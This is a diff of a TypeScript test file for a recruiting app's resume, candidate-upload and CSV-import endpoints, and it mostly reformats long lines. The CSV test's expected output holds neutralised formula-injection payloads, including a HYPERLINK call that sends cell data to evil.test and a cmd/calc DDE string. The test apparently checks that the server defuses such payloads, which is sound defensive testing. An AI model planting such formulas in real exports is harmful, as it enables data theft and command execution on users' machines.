@@ -25,7 +25,15 @@ afterAll(async () => t?.close());
 describe('hard erasure of a candidate’s resume', () => {
   it('clears every column read or derived from the file, the sha256 and the score breakdown included', async () => {
     const form = new FormData();
-    form.append('file', new Blob([Buffer.from('Erin Erased\nerin@example.test | +1 415 555 0199\n\nExperience\nEngineer, Example Corp 2015 - 2022\nBuilt Go services on Kubernetes.\n\nSkills\nGo, Kubernetes\n')]), 'erin.txt');
+    form.append(
+      'file',
+      new Blob([
+        Buffer.from(
+          'Erin Erased\nerin@example.test | +1 415 555 0199\n\nExperience\nEngineer, Example Corp 2015 - 2022\nBuilt Go services on Kubernetes.\n\nSkills\nGo, Kubernetes\n',
+        ),
+      ]),
+      'erin.txt',
+    );
     const added = await t.fetch(`/api/v1/jobs/${jobId}/candidates`, { method: 'POST', headers: recruiter.headers, body: form });
     expect(added.status, await added.clone().text()).toBe(202);
     const { id, file_id: fileId } = await json(added);
@@ -95,7 +103,11 @@ describe('categories a candidate may upload', () => {
     }
     const resume = await uploadStreamed(t, candidate, { bytes: Buffer.from('Cora Candidate\ncora@example.test\n'), filename: 'cv.txt', category: 'resume' });
     expect(resume.status).toBe(201);
-    const letter = await uploadStreamed(t, candidate, { bytes: Buffer.from('Dear hiring team,\nI would like to apply.\n'), filename: 'letter.txt', category: 'cover_letter' });
+    const letter = await uploadStreamed(t, candidate, {
+      bytes: Buffer.from('Dear hiring team,\nI would like to apply.\n'),
+      filename: 'letter.txt',
+      category: 'cover_letter',
+    });
     expect(letter.status).toBe(201);
     expect((await uploadStreamed(t, recruiter, { bytes: csv, filename: 'people.csv', category: 'csv_import' })).status).toBe(201);
   });
@@ -109,7 +121,8 @@ describe('CSV imports', () => {
     const fileId = (await json(upload)).id;
     expect((await waitForScan(t, recruiter, fileId)).status).toBe('clean');
 
-    const expected = 'name,note\r\n\'=HYPERLINK("http://evil.test/?"&A1;"x"),\'+cmd|\' /C calc\'!A0\r\n\'@SUM(1;2),\'-1+1\r\n"\'\t=1+1","\'\r=2"\r\nAda,plain\r\n';
+    const expected =
+      'name,note\r\n\'=HYPERLINK("http://evil.test/?"&A1;"x"),\'+cmd|\' /C calc\'!A0\r\n\'@SUM(1;2),\'-1+1\r\n"\'\t=1+1","\'\r=2"\r\nAda,plain\r\n';
     const content = await t.fetch(`/api/v1/files/${fileId}/content`, { headers: recruiter.headers });
     expect(content.status).toBe(200);
     expect(content.headers.get('content-type')).toContain('text/csv');
